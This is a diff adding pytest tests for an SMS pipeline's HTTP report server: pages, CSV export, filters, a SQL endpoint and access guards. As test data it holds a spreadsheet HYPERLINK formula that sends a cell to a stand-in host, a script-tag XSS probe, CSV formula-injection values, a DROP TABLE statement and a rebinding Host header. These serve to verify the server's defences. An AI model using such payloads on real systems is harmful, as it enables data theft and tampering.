@@ -1,0 +1,357 @@
+"""The report over HTTP: what it shows, what it gives away, and to whom."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+from datetime import UTC, date, datetime, timedelta
+from typing import TYPE_CHECKING, Any
+
+import httpx
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from pipeline.cli.dead_letter.again import RETRY_OF
+from pipeline.records import (
+    ConsentChange,
+    DeadLetter,
+    DeadLetterRetry,
+    Header,
+    MtCommand,
+    MtRejection,
+    Record,
+)
+from pipeline.settings import Settings
+from pipeline.store.clickhouse.writer import ClickHouseWriter
+from pipeline.store.decoding import TABLE_OF, TableRows
+from pipeline.store.query.questions import Questions
+from pipeline.store.report.csv_answer import cell_from_value, csv_from_rows
+from pipeline.store.report.filters import LATEST, BadFilter, filters_from_query
+from pipeline.store.report.listings import LISTINGS
+from pipeline.store.report.server import Report, ReportThread
+from pipeline.store.rows import columns_of, row_from_record
+from pipeline.web.access import AccessError
+from tests.store.samples import AT, HANDSET, NUMBER, SAMPLES, mo_message
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from pipeline.store.clickhouse.database import Database
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
+MARKUP = "<script>alert(1)</script>"
+
+
+LINK = Header(name=RETRY_OF, value=b"7" * 32)
+
+
+def by_kind(kind: type[Record]) -> Any:
+    return next(sample for sample in SAMPLES if type(sample) is kind)
+
+
+def store(database: Database, records: list[Record]) -> None:
+    writer = ClickHouseWriter(database.writing)
+    for number, record in enumerate(records):
+        kind = type(record)
+        row = row_from_record(record, key=HANDSET.encode(), partition=0, offset=number)
+        rows = TableRows(TABLE_OF[kind], columns_of(kind), [row])
+        asyncio.run(writer.insert(rows, tag=f"report {number}"))
+    writer.close()
+
+
+@pytest.fixture(scope="module")
+def filled(database: Database) -> Database:
+    store(
+        database,
+        [
+            mo_message(
+                message_id="m1",
+                text="Hello",
+                complete=True,
+                parts_missing=[],
+                lossy=False,
+                flags=[],
+            ),
+            mo_message(message_id="m2", text=FORMULA, gateway_time=AT + timedelta(seconds=1)),
+            mo_message(message_id="m3", text=MARKUP, handset="447700900002", number="88802"),
+            by_kind(MtCommand),
+            by_kind(MtRejection),
+            by_kind(ConsentChange),
+            by_kind(DeadLetter),
+            msgspec.structs.replace(by_kind(DeadLetter), dead_letter_id="8" * 32, headers=[LINK]),
+            by_kind(DeadLetterRetry),
+        ],
+    )
+    return database
+
+
+class Running:
+    """A report that is served, and a client of it."""
+
+    def __init__(self, database: Database, **settings: Any) -> None:
+        self.ready = True
+        report = Report(
+            settings=Settings(**settings),
+            questions=Questions(database),
+            is_ready=lambda: self.ready,
+        )
+        self._thread = ReportThread(report, host="127.0.0.1", port=0)
+        self.client = httpx.Client(base_url=f"http://127.0.0.1:{self._thread.start()}")
+
+    def stop(self) -> None:
+        self.client.close()
+        self._thread.stop()
+
+
+@pytest.fixture(scope="module")
+def running(filled: Database) -> Iterator[Running]:
+    opened = Running(filled)
+    yield opened
+    opened.stop()
+
+
+@pytest.fixture
+def client(running: Running) -> httpx.Client:
+    return running.client
+
+
+def test_the_first_page_shows_each_list_with_what_is_in_it(client: httpx.Client) -> None:
+    page = client.get("/").text
+    for words in (
+        "Latest conversations",
+        "Opt-outs",
+        "Refused to send",
+        "Incomplete messages",
+        "Dead letters",
+    ):
+        assert words in page
+    for found in (
+        HANDSET,
+        NUMBER,
+        "88802",
+        "stop-word",
+        "opted-out",
+        "missing-to",
+        "confirmation-due",
+    ):
+        assert found in page
+
+
+@pytest.mark.parametrize(
+    "path", ["/", f"/conversation?handset={HANDSET}", "/list/messages", "/list/refusals"]
+)
+def test_a_page_runs_no_script_and_fetches_nothing_from_elsewhere(
+    client: httpx.Client, path: str
+) -> None:
+    answer = client.get(path)
+    assert answer.status_code == 200
+    assert "<script" not in answer.text
+    assert "http://" not in answer.text.replace("http://x.example", "")
+    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
+    assert answer.headers["cache-control"] == "no-store"
+
+
+def test_the_conversation_is_in_order_with_what_was_refused(client: httpx.Client) -> None:
+    page = client.get("/conversation", params={"handset": f"+{HANDSET}"}).text
+    assert page.index("Hello") < page.index("HYPERLINK")
+    assert "refused: opted-out (stopped since 05:06)" in page
+    assert "gateway: confirmation-due" in page
+    assert "88802" not in page
+
+
+@pytest.mark.parametrize("name", LISTINGS)
+def test_each_list_is_a_page_and_a_csv_with_a_heading(client: httpx.Client, name: str) -> None:
+    assert client.get(f"/list/{name}").status_code == 200
+    answer = client.get(f"/csv/{name}", params={"handset": HANDSET})
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
+    empty = client.get(f"/csv/{name}", params={"from": "2299-01-01", "handset": HANDSET})
+    assert answer.content.splitlines()[0] == empty.content.splitlines()[0]
+    assert len(list(csv.reader(io.StringIO(empty.text)))) == 1
+
+
+def test_a_letter_that_was_retried_is_marked_and_counts_no_more(client: httpx.Client) -> None:
+    rows = csv.DictReader(io.StringIO(client.get("/csv/dead-letters").content.decode("utf-8-sig")))
+    assert {row["dead_letter_id"]: (row["retry_of"], bool(row["retried_at"])) for row in rows} == {
+        "7" * 32: ("", True),
+        "8" * 32: ("7" * 32, False),
+    }
+    assert "<dt>Dead letters</dt><dd>1</dd>" in client.get("/").text
+
+
+def test_filters_narrow_every_list(client: httpx.Client) -> None:
+    rows = list(
+        csv.DictReader(
+            io.StringIO(
+                client.get("/csv/messages", params={"number": "88802"}).content.decode("utf-8-sig")
+            )
+        )
+    )
+    assert [row["message_id"] for row in rows] == ["m3"]
+    assert "HYPERLINK" not in client.get("/", params={"number": "88802"}).text
+    later = client.get("/csv/messages", params={"from": "2026-03-05", "to": "2026-03-06"})
+    assert len(later.text.splitlines()) == 1
+
+
+def test_a_formula_in_a_message_is_text_in_the_csv(client: httpx.Client) -> None:
+    text = client.get("/csv/conversation", params={"handset": HANDSET}).content.decode("utf-8-sig")
+    cells = [row["text"] for row in csv.DictReader(io.StringIO(text))]
+    assert "'" + FORMULA in cells
+    assert FORMULA not in cells
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+44", "'+44"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("\n=1", "'\n=1"),
+        ("\uff1d1", "'\uff1d1"),
+        ("a=1", "a=1"),
+        ("447700900001", "447700900001"),
+        ("", ""),
+        (-1, -1),
+        (2.5, 2.5),
+        (True, "true"),
+        (None, ""),
+        (AT, "2026-03-04 05:06:07.891"),
+        (date(2026, 3, 4), "2026-03-04"),
+    ],
+)  # fmt: skip
+def test_a_cell_is_typed_or_harmless(value: Any, cell: Any) -> None:
+    assert cell_from_value(value) == cell
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
+def test_any_text_is_read_back_from_the_csv(text: str) -> None:
+    rows = list(
+        csv.reader(io.StringIO(csv_from_rows(["text"], [[text]]).decode("utf-8-sig"), newline=""))
+    )
+    assert rows[0] == ["text"]
+    if text:
+        (found,) = rows[1]
+        assert found.removeprefix("'") == text.removeprefix("'")
+        assert not found.lstrip().startswith(("=", "+", "-", "@"))
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        {"from": "yesterday"},
+        {"to": "2026-13-01"},
+        {"from": "1066-10-14"},
+        {"from": "2026-02-01", "to": "2026-01-01"},
+        {"number": "1" * 65},
+    ],
+    ids=["no-date", "no-such-date", "too-old", "backwards", "too-long"],
+)
+def test_a_filter_that_cannot_be_read_is_said(client: httpx.Client, query: dict[str, str]) -> None:
+    with pytest.raises(BadFilter):
+        filters_from_query(query, newest=None)
+    assert client.get("/", params=query).status_code == 400
+
+
+def test_without_dates_the_last_30_days_are_shown() -> None:
+    filters = filters_from_query({}, newest=datetime(2026, 3, 31, 23, tzinfo=UTC))
+    assert (filters.since, filters.until) == (date(2026, 3, 2), LATEST)
+    assert filters.parameters()["until"] == "2299-12-31 00:00:00"
+
+
+def test_sql_as_text_and_as_json(client: httpx.Client) -> None:
+    text = client.post("/sql", content="SELECT message_id FROM mo_message ORDER BY message_id")
+    assert text.headers["content-type"] == "application/x-ndjson; charset=utf-8"
+    assert [json.loads(line)["message_id"] for line in text.text.splitlines()] == ["m1", "m2", "m3"]
+    asked = {
+        "query": "SELECT count() AS n FROM mo_message WHERE handset = {h:String}",
+        "parameters": {"h": HANDSET},
+    }
+    assert client.post("/sql", json=asked).json() == {"n": 2}
+
+
+@pytest.mark.parametrize(
+    ("body", "status", "words"),
+    [
+        ("DROP TABLE mo_raw_rows", 400, "DROP is not allowed"),
+        ("SELECT nothing", 400, "UNKNOWN_IDENTIFIER"),
+        ("SELECT (", 400, "SYNTAX_ERROR"),
+        ("", 400, "there is no statement"),
+        (b"SELECT '\xff'", 400, "cannot be read"),
+        ("SELECT 1" + " " * 70_000, 413, "at most 65536 octets"),
+    ],
+    ids=["refused", "unknown", "syntax", "empty", "not-utf-8", "too-long"],
+)
+def test_sql_that_is_not_answered(client: httpx.Client, body: Any, status: int, words: str) -> None:
+    answer = client.post("/sql", content=body)
+    assert (answer.status_code, words in answer.text) == (status, True)
+
+
+@pytest.mark.parametrize(
+    "body", [{"sql": "SELECT 1"}, {"query": 1}, [], {"query": "SELECT 1", "parameters": []}]
+)
+def test_json_that_is_no_question(client: httpx.Client, body: Any) -> None:
+    assert client.post("/sql", json=body).status_code == 400
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "status"),
+    [
+        ("GET", "/sql", 405),
+        ("POST", "/", 405),
+        ("GET", "/nothing", 404),
+        ("GET", "/csv/nothing", 404),
+        ("HEAD", "/", 200),
+    ],
+)
+def test_what_there_is_not(client: httpx.Client, method: str, path: str, status: int) -> None:
+    assert client.request(method, path).status_code == status
+
+
+def test_health_readiness_and_metrics(running: Running) -> None:
+    assert running.client.get("/healthz").status_code == 200
+    assert running.client.get("/readyz").status_code == 200
+    running.ready = False
+    assert running.client.get("/readyz").status_code == 503
+    running.ready = True
+    assert "twoway_store_rows_total" in running.client.get("/metrics").text
+
+
+def test_a_name_that_points_here_is_not_let_in(client: httpx.Client) -> None:
+    assert client.get("/", headers={"Host": "rebinding.example"}).status_code == 403
+    assert client.get("/", headers={"Host": "localhost:8081"}).status_code == 200
+
+
+def test_on_another_address_it_does_not_start_without_a_guard(database: Database) -> None:
+    with pytest.raises(AccessError, match=r"0\.0\.0\.0 is not a loopback address"):
+        Report(
+            settings=Settings(report_host="0.0.0.0"),  # noqa: S104  that is the test
+            questions=Questions(database),
+            is_ready=bool,
+        )
+
+
+def test_with_a_token_links_stay_below_it(filled: Database) -> None:
+    opened = Running(filled, tokens="s3cret")
+    try:
+        page = opened.client.get("/t/s3cret/")
+        assert page.status_code == 200
+        assert 'href="/' not in page.text
+        assert opened.client.get("/t/wrong/").status_code == 403
+    finally:
+        opened.stop()
+
+
+def test_a_port_that_is_taken_is_said(running: Running, filled: Database) -> None:
+    report = Report(settings=Settings(), questions=Questions(filled), is_ready=bool)
+    taken = ReportThread(report, host="127.0.0.1", port=running.client.base_url.port or 0)
+    with pytest.raises(OSError, match="address already in use"):
+        taken.start()
+    taken.stop()
